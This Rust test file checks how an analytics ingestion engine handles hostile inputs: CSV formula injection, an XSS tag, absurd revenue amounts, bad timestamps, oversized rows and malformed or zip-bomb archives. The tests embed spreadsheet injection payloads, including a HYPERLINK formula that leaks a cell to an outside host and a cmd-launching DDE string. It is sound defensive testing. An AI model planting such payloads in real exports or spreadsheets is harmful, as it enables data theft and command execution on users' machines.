//! A catalogue of hostile and awkward inputs, each with the exact text a
//! user sees: a file's error, a quarantined row's reason and detail, a
//! finding's message, or the cell written to a table. Expected strings are
//! written by hand from the rules in `limits.rs`, `outputs/csv_out.rs` and
//! `ingest/archive.rs`, not copied from a run.

use std::io::{Cursor, Write};

use engine::config::Config;
use engine::ingest::archive::{add_zip, add_zip_capped};
use engine::ingest::{Dataset, Ingest, Reason};
use engine::pipeline::run;
use engine::report::report;

const HEADER: &str = "client_id,page_url,referrer,timestamp,event_name,event_data,user_agent";
const UA: &str = "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0";
const DAY: &str = "events_20250223.csv";

/// One CSV row, each field quoted (quotes doubled) as a real export does.
fn row(fields: [&str; 7]) -> String {
    fields
        .iter()
        .map(|f| format!("\"{}\"", f.replace('"', "\"\"")))
        .collect::<Vec<_>>()
        .join(",")
}

fn view(client: &str, page: &str, referrer: &str, ts: &str) -> String {
    row([client, page, referrer, ts, "page_viewed", "", UA])
}

fn order(client: &str, ts: &str, data: &str) -> String {
    row([
        client,
        "https://checkout.puffy.com/thank-you",
        "",
        ts,
        "checkout_completed",
        data,
        UA,
    ])
}

fn file(rows: &[String]) -> String {
    format!("{HEADER}\n{}\n", rows.join("\n"))
}

fn load(name: &str, body: &[u8]) -> Dataset {
    let mut ingest = Ingest::new();
    ingest.add_file(name, body);
    ingest.finish()
}

/// The reason and detail of the one quarantined row of a one-row file.
fn quarantined(line: String) -> (Reason, String) {
    let ds = load(DAY, file(&[line]).as_bytes());
    assert_eq!(ds.quarantine.len(), 1, "one row quarantined");
    let f = &ds.files[0];
    assert_eq!(f.rows, f.accepted + f.quarantined, "rows conserved");
    (ds.quarantine[0].reason, ds.quarantine[0].detail.clone())
}

/// A file's error message.
fn file_error(name: &str, body: &[u8]) -> String {
    load(name, body).files[0].error.clone().unwrap_or_default()
}

/// The cells of `column` in a table of the run over `rows`.
fn cells(rows: &[String], table: &str, column: &str) -> Vec<String> {
    let ds = load(DAY, file(rows).as_bytes());
    let run = run(&ds, &Config::default()).unwrap();
    let bytes = engine::outputs::tables::table(
        &ds,
        &run,
        engine::outputs::tables::Table::from_file_name(table).unwrap(),
    );
    let mut rdr = csv::Reader::from_reader(bytes.as_slice());
    let at = rdr
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap();
    rdr.records().map(|r| r.unwrap()[at].to_string()).collect()
}

fn finding_message(ds: &Dataset, cfg: &Config, check: &str) -> String {
    let run = run(ds, cfg).unwrap();
    run.quality
        .findings
        .iter()
        .find(|f| f.check == check)
        .map(|f| f.message.clone())
        .unwrap_or_else(|| panic!("no {check} finding"))
}

const T: &str = "2025-02-23T10:00:00.000Z";

// ---- formula cells (CSV injection) --------------------------------------

#[test]
fn h01_hyperlink_client_id_is_text_in_sessions_csv() {
    let id = r#"=HYPERLINK("http://x.example/?"&A1,"click")"#;
    let got = cells(
        &[view(id, "https://puffy.com/", "", T)],
        "sessions.csv",
        "client_id",
    );
    assert_eq!(got, vec![format!("'{id}")]);
}

#[test]
fn h02_formula_referrer_is_text_in_events_enriched() {
    let got = cells(
        &[view("c1", "https://puffy.com/", "=1+2", T)],
        "events_enriched.csv",
        "referrer",
    );
    assert_eq!(got, vec!["'=1+2"]);
}

#[test]
fn h03_at_sign_page_url_is_text_as_landing_page() {
    let got = cells(
        &[view("c1", "@SUM(1+1)*cmd|' /C calc'!A0", "", T)],
        "sessions.csv",
        "landing_page",
    );
    assert_eq!(got, vec!["'@SUM(1+1)*cmd|' /C calc'!A0"]);
}

#[test]
fn h04_plus_and_minus_transaction_ids_are_text_in_conversions() {
    let rows = [
        order(
            "c1",
            "2025-02-23T10:00:00.000Z",
            r#"{"transaction_id":"+1+cmd","revenue":10}"#,
        ),
        order(
            "c2",
            "2025-02-23T10:00:01.000Z",
            r#"{"transaction_id":"-2-3","revenue":10}"#,
        ),
    ];
    assert_eq!(
        cells(&rows, "conversions.csv", "transaction_id"),
        vec!["'+1+cmd", "'-2-3"]
    );
    // Numbers stay numbers.
    assert_eq!(
        cells(&rows, "conversions.csv", "revenue"),
        vec!["10.00", "10.00"]
    );
}

#[test]
fn h05_full_width_equals_sign_is_text() {
    let got = cells(
        &[view("＝1+1", "https://puffy.com/", "", T)],
        "events_enriched.csv",
        "client_id",
    );
    assert_eq!(got, vec!["'＝1+1"]);
}

#[test]
fn h06_a_quarantined_formula_row_is_text_in_quarantine_csv() {
    let line = view("=cmd", "https://puffy.com/", "", "yesterday");
    let got = cells(&[line], "quarantine.csv", "raw");
    // The row re-joined as CSV (the user agent has no comma: unquoted).
    assert_eq!(
        got,
        vec![format!(
            "'=cmd,https://puffy.com/,,yesterday,page_viewed,,{UA}"
        )]
    );
}

#[test]
fn h07_markup_in_a_client_id_stays_text_in_report_json() {
    let ds = load(
        DAY,
        file(&[view(
            "<img src=x onerror=alert(1)>",
            "https://puffy.com/",
            "",
            "nope",
        )])
        .as_bytes(),
    );
    let run = run(&ds, &Config::default()).unwrap();
    let json = serde_json::to_string(&report(&ds, &run)).unwrap();
    // serde escapes nothing here; the page and HTML report show it as text.
    assert!(json
        .contains(r#""raw":"<img src=x onerror=alert(1)>,https://puffy.com/,,nope,page_viewed,,"#));
}

// ---- absurd amounts ------------------------------------------------------

#[test]
fn h08_revenue_9e18_is_quarantined_above_the_cap() {
    let got = quarantined(order("c", T, r#"{"transaction_id":"A","revenue":9e18}"#));
    assert_eq!(
        got,
        (Reason::RevenueAboveCap, "revenue 9000000000000000000 is above the cap of 25000.00 per order ([ingest] max_order_revenue)".into())
    );
}

#[test]
fn h09_three_orders_of_9e18_leave_revenue_at_zero_not_negative() {
    let rows: Vec<String> = (0..3)
        .map(|i| {
            order(
                &format!("c{i}"),
                &format!("2025-02-23T10:00:0{i}.000Z"),
                &format!(r#"{{"transaction_id":"T{i}","revenue":9e18}}"#),
            )
        })
        .collect();
    let ds = load(DAY, file(&rows).as_bytes());
    let run = run(&ds, &Config::default()).unwrap();
    let r = report(&ds, &run);
    assert_eq!(r.summary.revenue, 0.0);
    assert_eq!(
        r.quality.quarantine_by_reason.get("revenue_above_cap"),
        Some(&3)
    );
}

#[test]
fn h10_revenue_1e308_is_above_the_cap() {
    let (reason, _) = quarantined(order("c", T, r#"{"transaction_id":"A","revenue":1e308}"#));
    assert_eq!(reason, Reason::RevenueAboveCap);
}

#[test]
fn h11_revenue_string_1e400_is_not_a_number() {
    let got = quarantined(order("c", T, r#"{"transaction_id":"A","revenue":"1e400"}"#));
    assert_eq!(got, (Reason::NonFiniteRevenue, "revenue 1e400".into()));
}

#[test]
fn h12_negative_cent_is_refused() {
    let got = quarantined(order("c", T, r#"{"transaction_id":"A","revenue":-0.01}"#));
    assert_eq!(got, (Reason::NegativeRevenue, "revenue -0.01".into()));
}

#[test]
fn h13_nan_and_infinity_revenues_are_refused() {
    for word in ["NaN", "Infinity", "-inf"] {
        let got = quarantined(order(
            "c",
            T,
            &format!(r#"{{"transaction_id":"A","revenue":"{word}"}}"#),
        ));
        assert_eq!(got, (Reason::NonFiniteRevenue, format!("revenue {word}")));
    }
}

#[test]
fn h14_absurd_item_quantity_is_flagged_and_revenue_still_counts() {
    let data = r#"{"transaction_id":"A","revenue":100,"items":[{"item_id":"X","quantity":1e300,"item_price":100}]}"#;
    let ds = load(DAY, file(&[order("c", T, data)]).as_bytes());
    assert_eq!(
        finding_message(&ds, &Config::default(), "item_values_implausible"),
        "1 order has line items with a negative price or quantity, more than 10,000 units or an absurd price; they are left out of the item check and order revenue is still used."
    );
    assert_eq!(
        report(&ds, &run(&ds, &Config::default()).unwrap())
            .summary
            .revenue,
        100.0
    );
}

#[test]
fn h15_orders_at_the_highest_cap_sum_exactly() {
    // The largest cap a setting allows, and orders at it: every total is
    // exact (checked against i128 arithmetic), nothing wraps.
    let mut cfg = Config::default();
    cfg.ingest.max_order_revenue = 1e9;
    let rows: Vec<String> = (0..50)
        .map(|i| {
            order(
                &format!("c{i}"),
                &format!("2025-02-23T10:{:02}:00.000Z", i),
                &format!(r#"{{"transaction_id":"T{i}","revenue":999999999.99}}"#),
            )
        })
        .collect();
    let mut ingest = Ingest::new().with_config(&cfg.ingest);
    ingest.add_file(DAY, file(&rows).as_bytes());
    let ds = ingest.finish();
    let r = report(&ds, &run(&ds, &cfg).unwrap());
    let want = 50i128 * 99_999_999_999;
    assert_eq!((r.summary.revenue * 100.0).round() as i128, want);
    assert!(r.reconciliation.revenue_balanced);
}

#[test]
fn h16_a_cap_of_zero_or_above_a_billion_is_refused() {
    let mut cfg = Config::default();
    cfg.ingest.max_order_revenue = 0.0;
    assert_eq!(
        cfg.validate().unwrap_err().to_string(),
        "invalid configuration: the order revenue cap must be above 0 and at most 1000000000 (got 0)"
    );
    cfg.ingest.max_order_revenue = 2e9;
    assert!(cfg.validate().is_err());
}

#[test]
fn h17_a_zero_half_life_is_refused() {
    let mut cfg = Config::default();
    cfg.attribution.half_life_days = 0.0;
    assert_eq!(
        cfg.validate().unwrap_err().to_string(),
        "invalid configuration: time-decay half-life must be a positive number of days"
    );
}

// ---- timestamps and the day range ---------------------------------------

#[test]
fn h18_year_1_and_year_9999_are_out_of_range() {
    for ts in [
        "0001-01-01T00:00:00.000Z",
        "9999-12-31T23:59:59.999Z",
        "1999-12-31T23:59:59.999Z",
        "2100-01-01T00:00:00.000Z",
    ] {
        let got = quarantined(view("c", "https://puffy.com/", "", ts));
        assert_eq!(
            got,
            (
                Reason::TimestampOutOfRange,
                format!("timestamp {ts:?} is outside 2000-01-01 to 2099-12-31")
            )
        );
    }
}

#[test]
fn h19_an_unparseable_huge_year_is_a_bad_timestamp() {
    let got = quarantined(view(
        "c",
        "https://puffy.com/",
        "",
        "+275760-09-13T00:00:00Z",
    ));
    assert_eq!(
        got,
        (
            Reason::BadTimestamp,
            "timestamp \"+275760-09-13T00:00:00Z\"".into()
        )
    );
}

#[test]
fn h20_one_stray_event_years_away_does_not_make_thousands_of_days() {
    let rows = [
        view("a", "https://puffy.com/", "", "2001-01-01T00:00:00.000Z"),
        view("b", "https://puffy.com/", "", T),
    ];
    let ds = load("export.csv", file(&rows).as_bytes());
    let cfg = Config::default();
    // 2001-01-01 .. 2025-02-23: 24 years with 6 leap days, then 31 + 22 days.
    assert_eq!(
        finding_message(&ds, &cfg, "batch_span"),
        "The batch spans 8820 days, from 2001-01-01 to 2025-02-23; day-by-day checks and metrics cover the last 731, from 2023-02-24. 1 event before 2023-02-24 still counts in the totals: check their timestamps."
    );
    let run = run(&ds, &cfg).unwrap();
    assert_eq!(run.quality.score_by_day.len(), 731);
    assert_eq!(report(&ds, &run).metrics.len(), 731);
}

#[test]
fn h21_file_names_far_in_the_past_or_future_name_no_day() {
    let ds = load(
        "events_00010101.csv",
        file(&[view("a", "https://puffy.com/", "", T)]).as_bytes(),
    );
    assert_eq!(ds.files[0].day, None);
}

// ---- oversized and malformed rows ----------------------------------------

#[test]
fn h22_a_300_kb_row_is_set_aside_and_its_sample_cut() {
    let big = "x".repeat(300_000);
    let line = view(&big, "https://puffy.com/", "", T);
    let ds = load(DAY, file(&[line]).as_bytes());
    let q = &ds.quarantine[0];
    // The fields' bytes: 300,000 + 18 + 0 + 24 + 11 + 0 + 44.
    assert_eq!(
        (q.reason, q.detail.as_str()),
        (
            Reason::RowTooLong,
            "the row is 300097 bytes long; rows over 262144 bytes are not read"
        )
    );
    // The raw row: 300,000 x, then 97 bytes of fields and 6 commas.
    assert_eq!(
        q.raw,
        format!("{}… [299603 more characters]", "x".repeat(500))
    );
    let r = report(&ds, &run(&ds, &Config::default()).unwrap());
    assert!(r.quarantine_sample[0].raw.chars().count() < 530);
}

#[test]
fn h23_a_long_unknown_event_name_is_cut_in_the_detail() {
    let name = "e".repeat(1000);
    let got = quarantined(row(["c", "https://puffy.com/", "", T, &name, "", UA]));
    assert_eq!(
        got,
        (
            Reason::UnknownEvent,
            format!("event_name \"{}… [936 more characters]\"", "e".repeat(64))
        )
    );
}

#[test]
fn h24_a_field_that_is_not_utf8_is_quarantined() {
    let mut body = format!("{HEADER}\n").into_bytes();
    body.extend_from_slice(
        b"caf\xe9,https://puffy.com/,,2025-02-23T10:00:00.000Z,page_viewed,,ua\n",
    );
    let ds = load(DAY, &body);
    assert_eq!(
        (ds.quarantine[0].reason, ds.quarantine[0].detail.as_str()),
        (Reason::InvalidUtf8, "client_id is not UTF-8")
    );
}

#[test]
fn h25_extra_fields_are_counted() {
    let got = quarantined(
        "a,https://puffy.com/,x,y,2025-02-23T10:00:00.000Z,page_viewed,,ua,extra".into(),
    );
    assert_eq!(
        got,
        (Reason::WrongFieldCount, "expected 7 fields, found 9".into())
    );
}

#[test]
fn h26_a_header_name_of_5000_characters_is_cut() {
    let body = format!(
        "{HEADER},{}\n{},z\n",
        "h".repeat(5000),
        view("a", "https://puffy.com/", "", T)
    );
    let ds = load(DAY, body.as_bytes());
    assert_eq!(
        ds.files[0].columns[7],
        format!("{}… [4900 more characters]", "h".repeat(100))
    );
}

#[test]
fn h27_seventy_thousand_referrer_hosts_keep_their_own_sources() {
    let rows: Vec<String> = (0..70_000)
        .map(|i| {
            view(
                &format!("c{i}"),
                "https://puffy.com/",
                &format!("https://site{i}.example/"),
                &format!(
                    "2025-02-23T{:02}:{:02}:{:02}.000Z",
                    i / 3600 % 24,
                    i / 60 % 60,
                    i % 60
                ),
            )
        })
        .collect();
    let ds = load(DAY, file(&rows).as_bytes());
    let run = run(&ds, &Config::default()).unwrap();
    let bytes =
        engine::outputs::tables::table(&ds, &run, engine::outputs::tables::Table::EventsEnriched);
    let mut rdr = csv::Reader::from_reader(bytes.as_slice());
    let h = rdr.headers().unwrap().clone();
    let (c, s) = (
        h.iter().position(|x| x == "client_id").unwrap(),
        h.iter().position(|x| x == "source").unwrap(),
    );
    for r in rdr.records().map(Result::unwrap) {
        let i = &r[c][1..];
        assert_eq!(&r[s], format!("site{i}.example"), "client c{i}");
    }
}

// ---- unreadable files ------------------------------------------------------

#[test]
fn h28_empty_file() {
    assert_eq!(
        file_error(DAY, b""),
        "events_20250223.csv: the file is empty"
    );
}

#[test]
fn h29_an_image_named_csv() {
    assert_eq!(
        file_error("logo.csv", b"\x89PNG\r\n\x1a\n\0\0"),
        "logo.csv: this is a PNG image, not a CSV text file"
    );
}

#[test]
fn h30_a_csv_that_is_not_an_export() {
    assert_eq!(
        file_error("other.csv", b"name,size\nx,1\n"),
        "other.csv, line 1: not an event export: required column(s) timestamp, event_name not found in the header"
    );
}

// ---- archives ----------------------------------------------------------------

/// A ZIP with the given (name, bytes, deflate?) members.
fn zip(members: &[(&str, &[u8], bool)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes, deflate) in members {
        let method = if *deflate {
            zip::CompressionMethod::Deflated
        } else {
            zip::CompressionMethod::Stored
        };
        w.start_file(
            *name,
            zip::write::SimpleFileOptions::default().compression_method(method),
        )
        .unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Sets a 16-bit field in every local (`PK\3\4`) and central (`PK\1\2`)
/// header: the general-purpose flags or the compression method.
fn patch(bytes: &mut [u8], local_at: usize, central_at: usize, f: impl Fn(u16) -> u16) {
    let sigs: Vec<(usize, usize)> = (0..bytes.len().saturating_sub(4))
        .filter_map(|i| match &bytes[i..i + 4] {
            b"PK\x03\x04" => Some((i, local_at)),
            b"PK\x01\x02" => Some((i, central_at)),
            _ => None,
        })
        .collect();
    for (at, off) in sigs {
        let v = u16::from_le_bytes([bytes[at + off], bytes[at + off + 1]]);
        bytes[at + off..at + off + 2].copy_from_slice(&f(v).to_le_bytes());
    }
}

fn zip_errors(name: &str, bytes: Vec<u8>) -> (Dataset, Vec<String>) {
    let mut ingest = Ingest::new();
    add_zip(&mut ingest, name, Cursor::new(bytes));
    let ds = ingest.finish();
    let errors = ds.files.iter().filter_map(|f| f.error.clone()).collect();
    (ds, errors)
}

#[test]
fn h31_an_encrypted_member_gets_its_own_error_and_the_others_load() {
    let good = file(&[view("a", "https://puffy.com/", "", T)]);
    let mut bytes = zip(&[
        ("a/events_20250223.csv", good.as_bytes(), false),
        ("b/events_20250224.csv", good.as_bytes(), false),
    ]);
    // Mark only the second member encrypted: flags at +6 (local), +8 (central).
    let second_local = bytes
        .windows(4)
        .enumerate()
        .filter(|(_, w)| *w == b"PK\x03\x04")
        .nth(1)
        .unwrap()
        .0;
    let second_central = bytes
        .windows(4)
        .enumerate()
        .filter(|(_, w)| *w == b"PK\x01\x02")
        .nth(1)
        .unwrap()
        .0;
    bytes[second_local + 6] |= 1;
    bytes[second_central + 8] |= 1;
    let (ds, errors) = zip_errors("batch.zip", bytes);
    assert_eq!(errors, vec!["batch.zip/b/events_20250224.csv: cannot open: the member is encrypted (password-protected); zip it again without a password"]);
    assert_eq!(ds.events.len(), 1);
    assert_eq!(ds.files[0].archive.as_deref(), Some("batch.zip"));
    // The refused member counts under its archive too (the manifest sums them).
    assert!(ds
        .files
        .iter()
        .all(|f| f.archive.as_deref() == Some("batch.zip")));
}

#[test]
fn h32_a_bzip2_member_is_named_with_its_method() {
    let good = file(&[view("a", "https://puffy.com/", "", T)]);
    let mut bytes = zip(&[(DAY, good.as_bytes(), false)]);
    patch(&mut bytes, 8, 10, |_| 12); // method 12: bzip2
    let (_, errors) = zip_errors("batch.zip", bytes);
    assert_eq!(errors, vec!["batch.zip/events_20250223.csv: cannot open: the member is compressed with Bzip2, which cannot be read here; zip it again with standard (deflate) compression"]);
}

#[test]
fn h33_a_zip_bomb_stops_at_the_cap_with_a_message() {
    let mut body = file(&[view("a", "https://puffy.com/", "", T)]).into_bytes();
    body.resize(3 << 20, b'\n'); // 3 MB, most of it blank lines
    let bytes = zip(&[(DAY, &body, true)]);
    assert!(bytes.len() < 64 * 1024, "it compresses well");
    let mut ingest = Ingest::new();
    add_zip_capped(&mut ingest, "bomb.zip", Cursor::new(bytes), 1 << 20);
    let ds = ingest.finish();
    assert_eq!(
        ds.files[0].error.as_deref(),
        Some("bomb.zip/events_20250223.csv: cannot open: the archive inflates to more than 1 MB (this member claims 3 MB); unzip it and add the CSV files themselves")
    );
    assert!(ds.events.is_empty());
}

#[test]
fn h34_an_archive_without_csv_and_a_broken_archive() {
    let (_, errors) = zip_errors("notes.zip", zip(&[("readme.txt", b"hello", true)]));
    assert_eq!(
        errors,
        vec!["notes.zip: cannot open: the ZIP archive holds no .csv file"]
    );
    let (_, errors) = zip_errors("broken.zip", b"PK\x03\x04 not really".to_vec());
    assert!(
        errors[0].starts_with("broken.zip: cannot open: not a readable ZIP archive ("),
        "{}",
        errors[0]
    );
}

#[test]
fn h35_every_catalogue_file_conserves_rows() {
    // The mixed bag in one batch: rows read = accepted + quarantined.
    let rows = [
        view("=1", "https://puffy.com/", "", T),
        view("b", "https://puffy.com/", "", "0001-01-01T00:00:00.000Z"),
        order("c", T, r#"{"transaction_id":"A","revenue":9e18}"#),
        order("d", T, r#"{"transaction_id":"B","revenue":"NaN"}"#),
        order("e", T, r#"{"transaction_id":"C","revenue":120}"#),
    ];
    let ds = load(DAY, file(&rows).as_bytes());
    let r = report(&ds, &run(&ds, &Config::default()).unwrap());
    assert_eq!(
        (
            ds.files[0].rows,
            ds.files[0].accepted,
            ds.files[0].quarantined
        ),
        (5, 2, 3)
    );
    assert!(r.reconciliation.events_balanced);
    assert_eq!(r.summary.revenue, 120.0);
}

#[test]
fn h36_an_unreadable_member_is_named_with_its_archive() {
    let (_, errors) = zip_errors(
        "batch.zip",
        zip(&[("2025/events_20250223.csv", b"\x89PNG\r\n\x1a\n", true)]),
    );
    assert_eq!(
        errors,
        vec!["batch.zip/2025/events_20250223.csv: this is a PNG image, not a CSV text file"]
    );
}
